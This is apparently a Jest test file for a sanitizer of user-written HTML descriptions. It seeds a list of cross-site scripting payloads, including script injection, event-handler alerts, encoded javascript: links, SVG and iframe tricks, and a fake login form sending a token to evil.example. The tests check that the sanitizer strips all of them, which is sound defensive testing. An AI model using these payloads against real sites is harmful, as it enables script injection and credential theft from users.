// The description sanitizer (src/views/sanitize.ts) against the tricks the sandbox seeds and
// a few more: nothing that runs, styles, frames or loads from elsewhere survives, and what
// is left (text, simple markup, absolute links, our hosts' images) is kept.
import { describe, it, expect } from '@jest/globals';
import { createSanitizer } from '../src/views/sanitize.js';
import { imageFilter } from '../src/views/images.js';

const CDN = 'https://cdn.thingiverse.com';
const clean = createSanitizer(imageFilter([CDN]));

const HOSTILE = [
  '<script>document.title="pwned"</script><p>Script above.</p><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<p onclick="alert(1)" onmouseover="alert(2)">Hover me</p><img src="x" onerror="alert(3)"><body onload="alert(4)">',
  '<a href="javascript:alert(5)">Download STL</a> <a href="JaVaScRiPt:alert(6)">mixed</a> <a href="&#106;avascript:alert(7)">entity</a>' +
    ' <a href=" javascript:alert(8)">space</a> <a href="data:text/html,<script>alert(9)</script>">data</a> <a href="https://example.com/ok">fine</a>',
  '<style>body{display:none}</style><p style="position:fixed;background:red">Styled</p><link rel="stylesheet" href="https://evil.example/x.css">',
  '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(10)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">',
  '<svg onload="alert(11)"><script>alert(12)</script><a xlink:href="javascript:alert(13)"><text>svg</text></a></svg><math><mtext><img src=x onerror=alert(14)></mtext></math>',
  '<p>Unclosed <b>bold <i>italic <a href="https://example.com/ok">link</p></div><!-- <script>alert(15)</script> -->' +
    '<scr<script>ipt>alert(16)</scr</script>ipt><p <p>>double</p><img src="x" alt="a\'"onerror=alert(17)//">',
  '<form action="https://evil.example/steal"><input name="token"><button>Log in again</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/">' +
    '<base href="https://evil.example/"><img src="https://tracker.example/pixel.gif"><img src="data:image/svg+xml,<svg onload=alert(18)>">',
];

describe('description sanitizer', () => {
  it.each(HOSTILE.map((h, i) => [i, h]))('hostile description %i: nothing active survives', (_i, html) => {
    const out = clean(html as string);
    expect(out).not.toMatch(/<(script|style|iframe|object|embed|svg|math|form|input|button|meta|base|link|body)\b/i);
    expect(out).not.toMatch(/\son[a-z]+\s*=/i);
    expect(out).not.toMatch(/javascript:|data:|style=|srcdoc|evil\.example|tracker\.example/i);
    // Every remaining tag is from the allow-list.
    for (const [, tag] of out.matchAll(/<\/?([a-z0-9]+)/gi)) {
      expect(['p', 'br', 'strong', 'b', 'em', 'i', 'u', 'ul', 'ol', 'li', 'a', 'img', 'code', 'pre', 'blockquote', 'h3', 'h4', 'h5', 'hr']).toContain(tag.toLowerCase());
    }
  });

  it('keeps text, simple markup and absolute links, with rel="noopener noreferrer nofollow"', () => {
    const out = clean('<p>Print <b>without</b> supports. <a href="https://example.com/ok" target="_blank" rel="opener">Guide</a></p>');
    expect(out).toBe('<p>Print <b>without</b> supports. <a href="https://example.com/ok" rel="noopener noreferrer nofollow">Guide</a></p>');
    expect(clean(HOSTILE[2])).toMatch(/Download STL/);
  });

  it('relative links lose the link but keep their words (they would point into this app)', () => {
    expect(clean('<a href="/logout">Log out</a> and <a href="things/1/like">like</a>')).toBe('Log out and like');
  });

  it('images only from the configured hosts, lazy, never .stl; headings below the page heading', () => {
    const out = clean(`<h1>Title</h1><img src="${CDN}/a/b.jpg" alt="side" onload="x"><img src="${CDN}/a/model.stl"><img src="https://other.example/c.jpg">`);
    expect(out).toBe(`<h3>Title</h3><img src="${CDN}/a/b.jpg" alt="side" loading="lazy" decoding="async" />`);
  });

  it('bounds the work on a huge description', () => {
    const out = clean('<p>' + 'a'.repeat(300_000) + '</p>');
    expect(out.length).toBeLessThanOrEqual(100_010);
  });
});
